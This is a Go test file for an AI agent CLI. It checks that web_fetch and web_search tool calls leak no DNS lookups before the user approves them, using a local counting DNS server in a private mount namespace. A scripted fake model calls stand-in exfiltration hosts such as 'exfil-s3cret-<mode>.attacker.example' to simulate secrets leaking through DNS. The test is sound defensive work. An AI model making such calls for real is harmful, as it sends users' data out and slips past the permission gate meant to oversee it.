package cli

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"pilot/backend/internal/fakellm"
)

// dnsCounter is a DNS server on a loopback address that answers every
// query "no such name" and counts the queries for names holding a word.
type dnsCounter struct {
	conn *net.UDPConn
	word string
	mu   sync.Mutex
	hits []string
}

// newDNSCounter listens on port 53 of a free 127.x address (resolv.conf
// takes no port).
func newDNSCounter(t *testing.T, word string) *dnsCounter {
	t.Helper()
	for i := 2; i < 250; i++ {
		c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 53, byte(i), 1), Port: 53})
		if err != nil {
			continue
		}
		d := &dnsCounter{conn: c, word: word}
		t.Cleanup(func() { c.Close() })
		go d.serve()
		return d
	}
	t.Skip("no loopback address free for port 53 (the test needs to listen there)")
	return nil
}

func (d *dnsCounter) serve() {
	buf := make([]byte, 1500)
	for {
		n, from, err := d.conn.ReadFromUDP(buf)
		if err != nil {
			return
		}
		if n < 12 {
			continue
		}
		if name := qname(buf[12:n]); strings.Contains(name, d.word) {
			d.mu.Lock()
			d.hits = append(d.hits, name)
			d.mu.Unlock()
		}
		resp := append([]byte(nil), buf[:n]...)
		resp[2] |= 0x80            // a response
		resp[3] = resp[3]&0xf0 | 3 // NXDOMAIN
		resp[6], resp[7] = 0, 0    // no answers
		_, _ = d.conn.WriteToUDP(resp, from)
	}
}

// qname reads the question's name.
func qname(b []byte) string {
	var labels []string
	for len(b) > 0 && b[0] != 0 && int(b[0]) < len(b) {
		labels = append(labels, string(b[1:1+b[0]]))
		b = b[1+b[0]:]
	}
	return strings.Join(labels, ".")
}

func (d *dnsCounter) queries() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.hits...)
}

// 0 DNS lookups before approval, at the binary level: the production
// binary runs in a private mount namespace whose /etc/resolv.conf names a
// local DNS server that counts the queries for the model's host name
// (exfil-<data>.attacker.example). Under plan, none, ask without a
// terminal, and deny web_fetch *, no query is sent; under all (the
// control), the name is looked up. On today's main the first four leak it.
func TestWebFetchNoDNSBeforeApproval(t *testing.T) {
	t.Parallel()
	noDNSBeforeApproval(t, "web_fetch", "exfil-s3cret-", func(t *testing.T, home, host string) []byte {
		return []byte(`{"url":"http://` + host + `/x"}`)
	})
}

// The same for web_search: the search service's host (here a SearXNG
// instance at a name only the counting DNS server is asked about) is
// not looked up before the gate's yes, and the query not sent.
func TestWebSearchNoDNSBeforeApproval(t *testing.T) {
	t.Parallel()
	noDNSBeforeApproval(t, "web_search", "search-s3cret-", func(t *testing.T, home, host string) []byte {
		settings := `{"webSearch": {"backend": "searxng", "url": "http://` + host + `:8080"}}`
		if err := os.WriteFile(filepath.Join(home, "settings.json"), []byte(settings), 0o600); err != nil {
			t.Fatal(err)
		}
		return []byte(`{"query":"exfil s3cret"}`)
	})
}

// noDNSBeforeApproval runs `pilot -p` under each mode with the model
// calling tool on a host named prefix+<mode>.attacker.example (input
// makes the call's input and sets the home up), and checks that the name
// is looked up only where the call may run without asking (mode all).
func noDNSBeforeApproval(t *testing.T, tool, prefix string, input func(t *testing.T, home, host string) []byte) {
	t.Helper()
	bin := pilotBinary(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root for a private mount namespace (unshare -m); CI runs as root")
	}
	if err := exec.Command("unshare", "-m", "--propagation", "private", "true").Run(); err != nil {
		t.Skipf("cannot make a mount namespace here: %v", err)
	}
	dns := newDNSCounter(t, "attacker")
	resolv := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(resolv, []byte(fmt.Sprintf("nameserver %s\noptions timeout:1 attempts:1\n", dns.conn.LocalAddr().(*net.UDPAddr).IP)), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		mode  string
		deny  bool
		leaks bool
	}{{mode: "plan"}, {mode: "none"}, {mode: "ask"}, {mode: "edits"}, {mode: "all", deny: true}, {mode: "all", leaks: true}}
	for _, c := range cases {
		name := c.mode
		if c.deny {
			name += " deny"
		}
		host := prefix + strings.ReplaceAll(name, " ", "-") + ".attacker.example"
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			home, dir := t.TempDir(), t.TempDir()
			in := input(t, home, host)
			srv := fakellm.New(fakellm.Script{Turns: []fakellm.Turn{
				{ToolCalls: []fakellm.ToolCall{{ID: "f", Name: tool, Input: in}}, When: &fakellm.When{LastUserContains: "Look"}},
				{Text: "Done.", Repeat: true, When: &fakellm.When{HasToolResult: true}},
			}})
			defer srv.Close()
			if c.deny {
				addRules(t, home, dir, [3]string{"deny", tool, "*"})
			}
			cmd := command(t, srv, home, "-p", "Look it up", "--project", dir, "--approve", c.mode)
			cmd.Args = append([]string{"unshare", "-m", "--propagation", "private", "sh", "-c", `mount --bind "$0" /etc/resolv.conf && exec "$@"`, resolv, bin}, cmd.Args[1:]...)
			cmd.Path, _ = exec.LookPath("unshare")
			var stderr bytes.Buffer
			cmd.Stderr = &stderr
			if err := cmd.Run(); err != nil {
				t.Fatalf("%v\n%s", err, stderr.String())
			}
			var got []string
			for _, q := range dns.queries() {
				if strings.HasPrefix(q, host) {
					got = append(got, q)
				}
			}
			if c.leaks != (len(got) > 0) {
				t.Fatalf("queries for %s: %q (want some: %v)\n%s", host, got, c.leaks, stderr.String())
			}
		})
	}
}
